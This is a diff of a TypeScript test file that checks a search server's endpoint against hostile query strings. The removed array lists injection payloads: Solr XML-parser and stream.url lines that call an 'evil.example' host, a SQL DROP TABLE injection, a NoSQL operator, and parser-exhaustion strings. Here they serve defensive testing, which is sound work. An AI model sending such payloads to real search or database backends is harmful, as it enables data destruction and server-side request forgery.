@@ -3,6 +3,7 @@ import type { FastifyInstance } from "fastify";
 import { connect, type AddressInfo, type Socket } from "node:net";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { manyParameters } from "../../components/search/server/question-address.ts";
+import { hostileQuestions } from "../../scripts/bench/search-server/hostile-questions.ts";
 import { attacks } from "../builds/attacks.ts";
 import { serverOver, twoArticleEngine } from "./two-article-engine.ts";
 
@@ -19,28 +20,8 @@ afterAll(async () => {
   await app.close();
 });
 
-/** Questions in the languages of what may stand behind such a server. */
-const injections = [
-  "*:*",
-  "{!func}exp(99999)",
-  "{!xmlparser v='<!DOCTYPE a SYSTEM \"http://evil.example/\">'}",
-  '_query_:"{!join from=id to=id}id:*"',
-  "stream.url=http://evil.example/ qt=/update commit=true",
-  "a) OR (1=1); DROP TABLE articles; --",
-  '{"$gt": ""}',
-  "(((((".repeat(190),
-  '"'.repeat(999),
-  "OR ".repeat(300),
-  "-a ".repeat(40),
-  "country:".repeat(100),
-  "a*b?c~ [* TO *] ^1000 /.*/",
-  "تَ".repeat(480),
-  "😀".repeat(450),
-  "١٢٣٤٥٦٧٨٩٠ ".repeat(40),
-];
-
 describe("questions that mean harm", () => {
-  test.each([...attacks, ...injections])("text %# is a text", async (text) => {
+  test.each([...attacks, ...hostileQuestions])("text %# is a text", async (text) => {
     const urls = ["q", ...manyParameters].map(
       (name) => `/v1/search?${new URLSearchParams({ [name]: text.slice(0, 1000) }).toString()}`,
     );
